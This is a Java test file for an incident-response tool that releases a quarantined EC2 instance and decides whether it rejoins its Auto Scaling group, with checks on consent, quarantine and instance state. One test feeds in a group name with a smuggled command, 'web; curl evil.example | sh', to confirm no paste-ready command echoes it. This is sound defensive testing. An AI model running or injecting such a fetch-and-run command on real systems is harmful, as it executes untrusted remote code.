package dev.tourniquet.isolateinstance;

import static dev.tourniquet.isolateinstance.Results.releasedStep;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

/** Going back into the Auto Scaling group, where it is asked for and safe. */
final class RejoinTest extends InWorld {
    @Test
    void doesNotRejoinTheAutoScalingGroupUnasked() {
        String instance = instance();
        world.joinAutoScalingGroup(instance, network, "web");
        function.finding(instance);

        JsonNode step = releasedStep(function.release(instance), "leave-auto-scaling-group");

        assertThat(step.path("result").asText()).isEqualTo("KEPT");
        assertThat(step.path("note").asText()).contains("rejoin-auto-scaling-group", "web", "desired capacity");
        assertThat(world.autoScalingGroupOf(instance)).isEmpty();
    }

    @Test
    void givesNoCommandToPasteThatSomebodyElseHasNamed() {
        String instance = instance();
        world.joinAutoScalingGroup(instance, network, "web; curl evil.example | sh");
        function.finding(instance);

        JsonNode step = releasedStep(function.release(instance), "leave-auto-scaling-group");

        assertThat(step.path("note").asText()).doesNotContain("aws autoscaling", "attach-instances");
    }

    @Test
    void rejoinsTheAutoScalingGroupWhenTold() {
        String instance = instance();
        world.joinAutoScalingGroup(instance, network, "web");
        function.finding(instance);

        JsonNode step =
                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");

        assertThat(step.path("result").asText()).isEqualTo("RESTORED");
        assertThat(step.path("note").asText()).contains("desired capacity");
        assertThat(world.autoScalingGroupOf(instance)).contains("web");
    }

    @Test
    void saysThatTheProtectionFromScaleInIsNotRestored() {
        String instance = instance();
        world.joinAutoScalingGroup(instance, network, "web");
        world.autoScaling.setInstanceProtection(request ->
                request.autoScalingGroupName("web").instanceIds(instance).protectedFromScaleIn(true));
        function.finding(instance);

        JsonNode step =
                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");

        assertThat(step.path("result").asText()).isEqualTo("RESTORED");
        assertThat(step.path("note").asText()).contains("scale-in", "not restored");
    }

    @Test
    void doesNotRejoinWhileAnInterfaceStaysInQuarantine() {
        String instance = instance();
        world.joinAutoScalingGroup(instance, network, "web");
        function.finding(instance);
        world.ec2.deleteSecurityGroup(request -> request.groupId(app));

        JsonNode step =
                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");

        assertThat(step.path("result").asText()).isEqualTo("KEPT");
        assertThat(step.path("note").asText())
                .contains("quarantine", world.interfaces(instance).getFirst(), "release again");
        assertThat(wire.count("AttachInstances")).isZero();
    }

    @Test
    void doesNotRejoinAnInstanceThatDoesNotRunAndDoesSoOnceItDoes() {
        String instance = instance();
        world.joinAutoScalingGroup(instance, network, "web");
        function.finding(instance);
        world.ec2.stopInstances(request -> request.instanceIds(instance));

        JsonNode stopped =
                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");
        world.ec2.startInstances(request -> request.instanceIds(instance));
        JsonNode started =
                releasedStep(function.release(instance, "rejoin-auto-scaling-group"), "leave-auto-scaling-group");

        assertThat(stopped.path("result").asText()).isEqualTo("KEPT");
        assertThat(stopped.path("note").asText()).contains("stop");
        assertThat(started.path("result").asText()).isEqualTo("RESTORED");
        assertThat(world.autoScalingGroupOf(instance)).contains("web");
    }
}
